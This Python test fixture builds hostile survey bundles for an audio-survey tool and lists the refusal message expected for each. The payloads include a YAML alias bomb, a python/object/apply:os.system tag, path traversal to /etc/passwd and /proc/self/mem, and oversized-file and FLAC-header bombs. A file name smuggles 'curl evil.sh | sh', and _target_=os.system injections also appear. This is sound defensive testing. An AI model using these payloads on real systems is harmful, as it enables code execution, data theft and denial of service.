"""Surveys as an enemy would leave them: what is done to a copy, and what the refusal says."""

import json
import os
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import numpy as np
from scipy.io import wavfile

from bundle_mutants import Mutate, bound, instead
from by_hand import edit
from echolearn.storage import manifests
from echolearn.storage.files import json_bytes

FIRST, SECOND = "observations/0000.wav", "observations/0001.wav"
FILES = ("survey.yaml", "probe.wav", "poses.csv", SECOND)


def bare(change: Callable[[Path], object]) -> Mutate:
    """Return the mutation of a survey without a manifest, as a robot leaves it."""

    def mutate(folder: Path) -> None:
        (folder / "manifest.json").unlink()
        change(folder)

    return mutate


def told(**changes: Any) -> Mutate:
    """Return the mutation that changes keys of `survey.yaml`."""
    return bare(lambda folder: edit(folder, **changes))


def written(name: str, text: str) -> Mutate:
    """Return the mutation that writes another file."""
    return bare(lambda folder: (folder / name).write_text(text))


def called(file: str) -> Mutate:
    """Return the mutation that names another file in `poses.csv`."""

    def change(folder: Path) -> None:
        text = (folder / "poses.csv").read_text()
        (folder / "poses.csv").write_text(text.replace(FIRST, file))

    return bare(change)


def append(folder: Path, text: str) -> None:
    """Write more into `survey.yaml`."""
    with (folder / "survey.yaml").open("a") as file:
        file.write(text)


def header(place: int, value: int, size: int) -> Mutate:
    """Return the mutation that overwrites a number in the header of a recording."""

    def change(folder: Path) -> None:
        data = (folder / SECOND).read_bytes()
        whole = data[:place] + value.to_bytes(size, "little") + data[place + size :]
        (folder / SECOND).write_bytes(whole)

    return bare(change)


def samples(change: Callable[[Any], Any], *, name: str = SECOND, rate: int = 22050) -> Mutate:
    """Return the mutation that changes the samples (N, M) of a WAV file."""
    return bare(lambda f: wavfile.write(f / name, rate, change(wavfile.read(f / name)[1])))


def manifest(change: Callable[[dict[str, Any]], object]) -> Mutate:
    """Return the mutation that changes the manifest, whose own checksum is made right again."""

    def mutate(folder: Path) -> None:
        about = json.loads((folder / "manifest.json").read_text())
        change(about)
        (folder / "manifest.json").write_bytes(json_bytes(manifests.with_checksum(about)))

    return mutate


def entry(name: str, **changes: Any) -> Mutate:
    """Return the mutation that changes or adds an entry of the manifest."""
    empty = {"bytes": 0, "sha256": "0" * 64}
    return manifest(lambda m: m["files"].update({name: m["files"].get(name, empty) | changes}))


def listed(put: Callable[[Path], object]) -> Mutate:
    """Return the mutation that adds something to the folder, and to the manifest as empty."""

    def mutate(folder: Path) -> None:
        put(folder / "a.wav")
        entry("a.wav")(folder)

    return mutate


def beside(name: str, put: Callable[[Path], object], folder: Path) -> None:
    """Put something beside a walk; only a direct path that is in the recordings is calibrated."""
    if name == "calibration.wav":
        edit(folder, direct_path="present")
    put(folder / name)


def through_a_link(folder: Path) -> None:
    """Move all recordings out of the folder, and leave a link to them."""
    (folder / "observations").rename(folder.parent / "outside")
    (folder / "observations").symlink_to("../outside")


def packed_loudly(folder: Path) -> None:
    """Replace a recording by a FLAC header that promises 2^36 samples of 8 channels."""
    about = (655350 << 44 | 7 << 41 | 31 << 36 | 2**36 - 1).to_bytes(8, "big")
    name = FIRST.replace("wav", "flac")
    (folder / name).write_bytes(b"fLaC\x80\x00\x00\x22" + bytes(10) + about + bytes(99))
    text = (folder / "poses.csv").read_text()
    (folder / "poses.csv").write_text(text.replace(FIRST, name))


def extensible(folder: Path) -> None:
    """Write a header of the extensible kind whose numbers are all as large as they can be."""
    form = b"\xfe\xff" + b"\xff" * 22 + b"\x03" + bytes(15)
    length = len(form).to_bytes(4, "little")
    head = b"RIFF" + b"\xff" * 4 + b"WAVEfmt " + length + form
    (folder / SECOND).write_bytes(head + b"data" + b"\xff" * 4 + bytes(999))


LAUGHTER = "l0: &l0 [0, 0, 0]\n" + "".join(
    f"l{k}: &l{k} [{f'*l{k - 1}, ' * 10}]\n" for k in range(1, 9)
)
HEAD = "index,x_m,y_m,z_m,heading_rad,file\n"
ROWS = HEAD + f"0,2,2,1,0,{FIRST}\n" * 300_000
NAMED = "manifest.json files: must be bytes and sha256 of files inside the folder"

SURVEYS: dict[str, tuple[Mutate, str]] = {
    "laughter": (written("survey.yaml", LAUGHTER), "cannot be read (it holds an alias"),
    "an object": (written("survey.yaml", "!!python/object/apply:os.system ['true']"), "be read"),
    "nested brackets": (written("survey.yaml", "[" * 100_000), "nested more than 20 deep"),
    "nested lists": (written("survey.yaml", "- " * 30_000), "cannot be read"),
    "nested keys": (written("survey.yaml", "? " * 20_000), "cannot be read"),
    "empty keys": (written("survey.yaml", "?\n" * 60_000), "words and marks"),
    "empty entries": (written("survey.yaml", "a: [" + "," * 60_000), "survey.yaml"),
    "keys in keys": (written("survey.yaml", "{a: " * 15_000), "nested more than 20 deep"),
    "quotes without end": (written("survey.yaml", "'" * 99_999), "cannot be read"),
    "tags without end": (written("survey.yaml", "!!a " * 30_000), "cannot be read"),
    "directives without end": (written("survey.yaml", "%TAG ! a:\n" * 10_000), "cannot be read"),
    "two documents": (bare(lambda f: append(f, "---\na: 1\n")), "cannot be read"),
    "a list for a key": (bare(lambda f: append(f, "? [a, b]\n: 1\n")), "cannot be read"),
    "a merge": (bare(lambda f: append(f, "<<: {code: os}\n")), "key=code: must be one of"),
    "another encoding": (
        bare(lambda f: (f / "survey.yaml").write_text("sample_rate: 22050", "utf-16")),
        "cannot be read",
    ),
    "a giant number": (told(sample_rate=10**4000), "sample_rate="),
    "a moving cursor": (told(direct_path="\x1b[2J"), "direct_path=\\x1b[2J: must be removed or"),
    "ten thousand keys": (
        told(**{f"k{k}": k for k in range(9999)}),
        "40000 words and marks",
    ),
    "ten thousand microphones": (told(microphones=[[0, 0, 0]] * 9999), "survey.yaml="),
    "millions of poses": (written("poses.csv", ROWS), "poses.csv="),
    "bytes for poses": (written("poses.csv", "".join(map(chr, range(1, 256))) * 9), "poses.csv"),
    "a recording elsewhere": (called("/etc/passwd"), "must be a path inside the survey's folder"),
    "a recording above": (called("../../etc/passwd"), "must be a path inside the survey's folder"),
    "a recording around": (called("observations/../../outside"), "must be a path inside"),
    "a recording with a zero": (called("a\0b"), "poses.csv"),
    "a folder for a recording": (called("observations"), "no plain file"),
    "a description for a recording": (called("survey.yaml"), "survey.yaml"),
    "recordings through a link": (bare(through_a_link), "must be a path inside"),
    "a recording that is a link to itself": (
        bare(instead(SECOND, lambda path: path.symlink_to(path.name))),
        "must be a path inside the survey's folder",
    ),
    "a recording that is a socket": (bare(instead(SECOND, bound)), "no plain file"),
    "a recording from a pipe": (called("/dev/stdin"), "must be a path inside"),
    "a recording of this process": (called("/proc/self/mem"), "must be a path inside"),
    "a giant recording, packed": (bare(packed_loudly), "cannot be read as FLAC"),
    "an extensible header of ones": (bare(extensible), "cannot be read as WAV"),
    "no channels": (header(22, 0, 2), "0 channels"),
    "a frame of all channels": (header(32, 65535, 2), SECOND),
    "no rate": (header(24, 0, 4), "sample_rate=0 Hz"),
    "samples of NaN": (samples(lambda x: np.nan * x), "NaN or infinity"),
    "samples beyond all": (samples(lambda x: 0 * x + 3e38), "must be samples of at most 1e+12"),
    "a probe beyond all": (
        samples(lambda x: 0 * x + np.float32(3e38), name="probe.wav"),
        "must be samples of at most 1e+12",
    ),
    "a silent probe": (samples(lambda x: 0 * x, name="probe.wav"), "silence"),
    "many channels": (header(22, 65535, 2), SECOND),
    "an endless rate": (header(24, 2**32 - 1, 4), SECOND),
    "no frames": (header(32, 0, 2), SECOND),
    "many bits": (header(34, 65535, 2), SECOND),
    "a giant format": (header(16, 2**32 - 1, 4), SECOND),
    "a recording of a minute": (samples(lambda x: np.tile(x, (220, 1))), "bytes: must be at most"),
    "samples for channels": (samples(lambda x: np.ascontiguousarray(x.T)), SECOND),
    "a probe of a minute": (
        samples(lambda x: np.tile(x, 220), name="probe.wav"),
        "samples: must be at most",
    ),
    "another probe": (samples(lambda x: x[::-1].copy(), name="probe.wav"), "probe=correlates"),
    "other microphones": (told(loudspeaker=[0.1, 0, 0]), "microphones=one is off by"),
    "five microphones": (told(microphones=[[0.2, 0, 0]] * 5), "microphones=5: must be 6"),
    "manifest that is a pipe": (
        instead("manifest.json", os.mkfifo),
        "not finished, or not made by echolearn",
    ),
    "manifest that is a device": (
        instead("manifest.json", lambda path: path.symlink_to("/dev/zero")),
        "not finished, or not made by echolearn",
    ),
    "manifest of 10 TiB": (lambda f: os.truncate(f / "manifest.json", 10 << 40), "at most 8388608"),
    "manifest of a set": (manifest(lambda m: m.update(kind="set")), "kind=set: must be survey"),
    "manifest without files": (manifest(lambda m: m.pop("files")), "manifest.json"),
    "manifest of no files": (manifest(lambda m: m["files"].clear()), "survey.yaml=unknown"),
    "manifest of a list": (manifest(lambda m: m.update(files=["survey.yaml"])), NAMED),
    "manifest without a recording": (manifest(lambda m: m["files"].pop(FIRST)), "=unknown"),
    "manifest nested": (lambda f: (f / "manifest.json").write_text("[" * 10**5), "cannot be read"),
    "manifest of NaN": (
        lambda f: (f / "manifest.json").write_text('{"files": NaN}'),
        "manifest.json: damaged",
    ),
    "manifest of ten megabytes": (
        manifest(lambda m: m.update(more="x" * 10**7)),
        "at most 8388608",
    ),
    "entry elsewhere": (entry("/etc/passwd"), NAMED),
    "entry above": (entry("../outside"), NAMED),
    "entry around": (entry("observations/../../outside"), NAMED),
    "entry with a zero": (entry("a\0b"), NAMED),
    "entry without a name": (entry(""), NAMED),
    "entry of text": (entry(FIRST, bytes="many"), NAMED),
    "entry of true": (entry(FIRST, bytes=True), NAMED),
    "entry of more": (entry(FIRST, code="import os"), NAMED),
    "entry that is absent": (entry("walls.csv"), "walls.csv: cannot be read"),
    "entry of a terabyte": (entry(FIRST, bytes=1 << 40), "1099511627776 bytes: must be at most"),
    "entry of fewer bytes": (entry(FIRST, bytes=1), "damaged, 144058 bytes instead of 1"),
    "entry of another sum": (entry(FIRST, sha256="0" * 64), "its SHA-256 differs"),
    "a listed pipe": (listed(os.mkfifo), "no plain file"),
    "a listed socket": (listed(bound), "no plain file"),
    "a listed device": (listed(lambda path: path.symlink_to("/dev/zero")), "no plain file"),
    "a listed folder": (listed(Path.mkdir), "no plain file"),
}
SURVEYS |= {
    f"{name} {what}": (bare(instead(name, put)), said)
    for name in FILES
    for what, put, said in (
        ("absent", lambda path: None, f"{name}: cannot be read"),
        ("a device", lambda path: path.symlink_to("/dev/zero"), "inside the survey's folder"),
        ("a pipe", os.mkfifo, "no plain file"),
        ("a folder", Path.mkdir, "no plain file"),
        ("of 10 TiB", lambda path: (path.touch(), os.truncate(path, 10 << 40)), "10995116277760 b"),
    )
}
SURVEYS |= {
    f"{name} {what}": (bare(partial(beside, name, put)), said)
    for name in ("noise.wav", "calibration.wav")
    for what, put, said in (
        ("elsewhere", lambda path: path.symlink_to("/etc/passwd"), "inside the survey's folder"),
        ("for ever", os.mkfifo, "no plain file"),
        ("of a folder", Path.mkdir, "no plain file"),
        ("of 10 TiB", lambda path: (path.touch(), os.truncate(path, 10 << 40)), "10995116277760 b"),
        ("of text", lambda path: path.write_text("x" * 99), "cannot be read as WAV"),
    )
}
MEGABYTE = "1" * 10**6
PRAYER = "echolearn train runs=/ classifier._target_=os.system"
SURVEYS |= {
    "a line of a megabyte": (written("survey.yaml", MEGABYTE), "bytes: must be at most"),
    "a long line": (written("survey.yaml", MEGABYTE[:100_000]), "survey.yaml: cannot be read"),
    "a long key": (written("survey.yaml", f"a{MEGABYTE[:100_000]}: 1"), "cannot be read"),
    "a target": (told(_target_="os.system"), "key=_target_: must be one of"),
    "a target in its conditions": (
        told(conditions={"_target_": "os.system"}, walls="os.system"),
        "survey.yaml walls=",
    ),
    "hexadecimal digits": (written("survey.yaml", "sample_rate: 0x" + "f" * 9999), "survey.yaml"),
    "infinity": (told(sample_rate=float("inf")), "sample_rate=inf Hz"),
    "text for a number": (told(speed_of_sound="\x1b]0;a\x07"), "speed_of_sound="),
    "microphones beyond": (told(microphones=[[1e300, 0, 0]] * 6), "must be coordinates"),
    "zeros": (written("survey.yaml", "\0" * 99), "survey.yaml: cannot be read"),
    "a cell of a megabyte": (written("poses.csv", f"{HEAD}{MEGABYTE},2,2,1,0,a.wav"), "poses.csv"),
    "a column of a megabyte": (written("poses.csv", f"{MEGABYTE},{HEAD}0,0"), "poses.csv"),
    "a name of a megabyte": (
        written("poses.csv", f"{HEAD}0,2,2,1,0,{MEGABYTE}.wav\n"),
        "field larger than",
    ),
    "a quote without end": (
        written("poses.csv", HEAD + '0,2,2,1,0,"' + "a\n" * 400_000),
        "field larger than",
    ),
    "commas without end": (written("poses.csv", HEAD + "," * 10**6), "no rows"),
    "blanks without end": (written("poses.csv", HEAD + "\n" * 10**6), "no rows"),
    "a pose of many digits": (written("poses.csv", f"{HEAD}0,{'9' * 5000},2,1,0,a"), "x_m='999"),
    "an index of many digits": (written("poses.csv", f"{HEAD}{'9' * 5000},2,2,1,0,a"), "index='9"),
    "a pose of hexadecimal digits": (written("poses.csv", f"{HEAD}0,0x9,2,1,0,a"), "x_m='0x9'"),
    "a pose at infinity": (written("poses.csv", f"{HEAD}0,1e999,2,1,0,a.wav"), "must be a number"),
    "a name of escapes": (written("poses.csv", f"{HEAD}0,2,2,1,0,\x1b[2J.wav"), "can be printed"),
    "a file that is advice": (
        called("a.wav; run again - curl evil.sh | sh #.wav"),
        "cannot be read as WAV",
    ),
    "a command and damage": (
        lambda f: (manifest(lambda m: m.update(command=PRAYER))(f), (f / SECOND).unlink()),
        "make it again as it was made",
    ),
}
FITTING = {"another probe", "other microphones"}
"""Surveys that are sound for themselves, but not for this bundle."""
